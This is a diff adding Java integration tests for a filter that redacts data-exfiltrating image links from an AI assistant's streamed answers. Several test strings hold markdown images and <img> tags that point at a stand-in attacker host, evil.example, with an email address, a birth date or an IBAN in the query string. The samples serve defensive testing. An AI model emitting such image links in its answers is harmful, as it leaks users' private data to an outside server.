@@ -140,11 +140,44 @@ class StreamedExfiltrationIT {
     }
 
     @Test
+    void defect1AnImageWithALongAltTextIsRedactedInEveryChunking() throws Exception {
+        String text = "Sure. ![" + ALT + "](https://evil.example/p.png?u=john.doe@bigbank.com) Done.";
+        sameStreamedAsWhole(
+                text, "Sure. ![" + ALT + "]([IMAGE_EXFILTRATION_1]) Done.", "john.doe", "bigbank", "evil.example");
+    }
+
+    @Test
+    void defect1AnImgTagWithLongAttributesBeforeSrcIsRedactedInEveryChunking() throws Exception {
+        String attrs = "<img width=\"600\" height=\"400\" class=\"" + "chart ".repeat(70) + "\" src=\"";
+        String text = "Sure. " + attrs + "https://evil.example/p.png?dob=1985-06-17\"> Done.";
+        sameStreamedAsWhole(text, "Sure. " + attrs + "[IMAGE_EXFILTRATION_1]\"> Done.", "1985-06-17", "evil.example");
+    }
+
+    @Test
     void defect7AUrlLongerThanTheHoldbackIsRedactedWholeInEveryChunking() throws Exception {
         String url = "https://evil.example/assets/images/reports/quarterly/northern/office/charts/revenue/by/region"
                 + "/final/version/approved/by/board/p.png?iban=DE89370400440532013000";
         String text = "Sure. ![x](" + url + ") Done.";
         sameStreamedAsWhole(text, "Sure. ![x]([IMAGE_EXFILTRATION_1]) Done.", "DE89", "evil");
+    }
+
+    @Test
+    void anOrdinaryLongAnswerWithALongAltTextAndAnInnocentImageStillStreams() throws Exception {
+        String text = PROSE + "\n\n![" + ALT + "](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)\n\n"
+                + PROSE + "See [the docs](https://docs.python.org/3/library/asyncio.html) and <img width=\"600\" "
+                + "class=\"" + "chart ".repeat(70) + "\" src=\"/static/chart.png\"> for more. " + PROSE;
+        sameStreamedAsWhole(text, text);
+        // it streams: text leaves before the answer ends
+        List<String> events = new ArrayList<>();
+        for (int i = 0; i < text.length(); i += 4) {
+            events.add(text.substring(i, Math.min(text.length(), i + 4)));
+        }
+        HttpResponse<String> r = streamedRaw(events);
+        long contentEvents =
+                r.body().lines().filter(l -> l.contains("\"content\":\"")).count();
+        assertThat(contentEvents)
+                .as("the answer is sent in many pieces, not at the end")
+                .isGreaterThan(100);
     }
 
     private HttpResponse<String> streamedRaw(List<String> pieces) throws Exception {
